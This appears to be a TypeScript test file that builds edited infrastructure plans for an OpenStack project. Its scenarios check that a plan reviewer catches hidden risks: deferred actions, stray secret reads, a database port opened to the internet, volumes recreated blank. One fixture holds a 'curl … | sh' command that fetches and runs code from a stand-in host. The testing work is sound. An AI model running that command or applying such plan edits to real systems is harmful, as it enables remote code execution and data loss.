/* eslint-disable @typescript-eslint/no-unsafe-assignment, @typescript-eslint/no-unsafe-call, @typescript-eslint/no-unsafe-member-access -- blocks and plans are JSON of the engine: whatever a scenario puts into them */
import { edited, changeOf, rule, port, scenariosOf } from "../scenario";
import type { Block } from "../../scenario";

const { forbidden, person, question } = scenariosOf("formats");
const VOLUME = "openstack_blockstorage_volume_v3";
const DB = `${VOLUME}.revidr-database-db`;
const RULE = "openstack_networking_secgroup_rule_v2";
const OPEN = "An internal port is reachable from the internet.";
const RUNS = "A command runs on the operator's machine.";
const UNCHANGED = { file: "unchanged" };
const OPENS = {
  file: "opens",
  config: (config: Parameters<typeof rule>[0]) => rule(config, "opened", port(5432, "0.0.0.0/0")),
};
const changed = (change: (plan: Block) => void) => ({ ...UNCHANGED, editPlan: edited(change) });
const INVOCATION = {
  address: "action.local_command.notify",
  type: "local_command",
  name: "notify",
  provider_name: "registry.terraform.io/hashicorp/local",
  config_values: { command: "sh", arguments: ["-c", "curl -s https://collector.example/x | sh"] },
};

/** Parts that newer engines write, made by editing a real plan. */
export const ENGINES = [
  forbidden(
    "ho-format-deferred-action",
    "revidr",
    "a command of an action is deferred to the next run",
    RUNS,
    changed(
      (plan) =>
        void (plan["deferred_action_invocations"] = [
          { reason: "deferred_prereq", action_invocation: { ...INVOCATION, invoke_action_trigger: {} } },
        ]),
    ),
  ),
  person(
    "ho-format-own-action",
    "revidr",
    "an action of the OpenStack provider is invoked before the database changes",
    "Nobody knows what it does.",
    changed(
      (plan) =>
        void (plan["action_invocations"] = [
          {
            address: "action.openstack_compute_instance_action_v2.stop",
            type: "openstack_compute_instance_action_v2",
            name: "stop",
            provider_name: "registry.terraform.io/terraform-provider-openstack/openstack",
            config_values: { action: "os-stop" },
            lifecycle_action_trigger: {
              triggering_resource_address: "openstack_compute_instance_v2.revidr-database",
              action_trigger_event: "BeforeUpdate",
              action_trigger_block_index: 0,
              actions_list_index: 0,
            },
          },
        ]),
    ),
  ),
  person(
    "ho-format-ephemeral",
    "revidr",
    "a secret of another system is read at every plan (ephemeral)",
    "A provider that the project does not use is run with the operator's rights.",
    changed((plan) => {
      plan["configuration"].provider_config.vault = {
        name: "vault",
        full_name: "registry.terraform.io/hashicorp/vault",
      };
      plan["configuration"].root_module.resources.push({
        address: "ephemeral.vault_kv_secret_v2.db",
        mode: "ephemeral",
        type: "vault_kv_secret_v2",
        name: "db",
        provider_config_key: "vault",
        expressions: { mount: { constant_value: "kv" }, name: { constant_value: "db" } },
        schema_version: 0,
      });
    }),
  ),
  person(
    "ho-format-deferred-rule",
    "revidr",
    "an open rule of the database is deferred to the next run",
    "The plan is not all that will be done.",
    {
      ...OPENS,
      editPlan: edited((plan) => {
        const found = changeOf(plan, `${RULE}.opened`);
        plan["resource_changes"] = (plan["resource_changes"] as Block[]).filter((one) => one !== found);
        plan["deferred_changes"] = [{ reason: "provider_config_unknown", resource_change: found }];
        const root = plan["planned_values"].root_module;
        root.resources = (root.resources as Block[]).filter((one) => one["address"] !== found["address"]);
      }),
    },
  ),
  person(
    "ho-format-list",
    "revidr",
    "the configuration lists every volume of the project and writes imports for them (list resources)",
    "The next run takes others' objects.",
    changed(
      (plan) =>
        void plan["configuration"].root_module.resources.push({
          address: `list.${VOLUME}.all`,
          mode: "list",
          type: VOLUME,
          name: "all",
          provider_config_key: "openstack",
          expressions: { include_resource: { constant_value: true } },
          schema_version: 0,
        }),
    ),
  ),
  question(
    "ho-format-unknown-part",
    "revidr",
    "a plan with a part that nobody knows",
    "It may say something that matters.",
    changed((plan) => void (plan["resource_operations"] = [{ address: DB, operation: "archive" }])),
  ),
  forbidden(
    "ho-format-forget-and-create",
    "revidr",
    "a volume is forgotten and made anew",
    "Production's data is left behind unmanaged, and the database gets a blank volume.",
    changed((plan) => {
      const { change } = changeOf(plan, DB);
      change.actions = ["forget", "create"];
      change.after = { ...change.after, id: undefined };
      change.after_unknown = { id: true };
    }),
  ),
  forbidden(
    "ho-format-planned-child",
    "revidr",
    "an open rule stands in the planned values of a module and in no change",
    OPEN,
    changed((plan) => {
      const internal = (plan["planned_values"].root_module.resources as Block[]).find(
        (one) => one["address"] === "openstack_networking_secgroup_v2.revidr-internal",
      )!;
      plan["planned_values"].root_module.child_modules = [
        {
          address: "module.access",
          resources: [
            {
              address: `module.access.${RULE}.pg`,
              mode: "managed",
              type: RULE,
              name: "pg",
              schema_version: 0,
              provider_name: "registry.terraform.io/terraform-provider-openstack/openstack",
              values: {
                direction: "ingress",
                ethertype: "IPv4",
                protocol: "tcp",
                port_range_min: 5432,
                port_range_max: 5432,
                remote_ip_prefix: "0.0.0.0/0",
                security_group_id: internal["values"].id,
              },
              sensitive_values: {},
            },
          ],
        },
      ];
    }),
  ),
  person(
    "ho-format-shared-text",
    "revidr",
    "production's network is shared, as a text",
    "It may be true.",
    changed((plan) => {
      const { change } = changeOf(plan, "openstack_networking_network_v2.revidr");
      change.actions = ["update"];
      change.after = { ...change.after, shared: "true" };
    }),
  ),
  person(
    "ho-format-groups-unknown",
    "revidr",
    "the groups of the database's port are known after apply, and sensitive",
    "They may be any.",
    changed((plan) => {
      const { change } = changeOf(plan, "openstack_networking_port_v2.revidr-database");
      change.actions = ["update"];
      const after: Block = structuredClone(change.after as Block);
      delete after["security_group_ids"];
      Object.assign(change, {
        after,
        after_unknown: { security_group_ids: true },
        after_sensitive: { security_group_ids: true },
      });
    }),
  ),
  forbidden(
    "ho-format-drift-binding",
    "live",
    "production's binding is drawn back to another port in a change that calls itself drift",
    "Production's binding is lost.",
    {
      file: "live-unchanged",
      editPlan: edited((plan) => {
        const found = changeOf(plan, "openstack_networking_floatingip_associate_v2.production");
        const { change } = found;
        plan["resource_drift"] = [structuredClone(found)];
        plan["resource_drift"][0].change.actions = ["update"];
        change.actions = ["update"];
        change.after = {
          ...change.after,
          port_id: changeOf(plan, 'openstack_networking_floatingip_associate_v2.spare["revnew"]')["change"]
            .after.port_id,
        };
      }),
    },
  ),
];
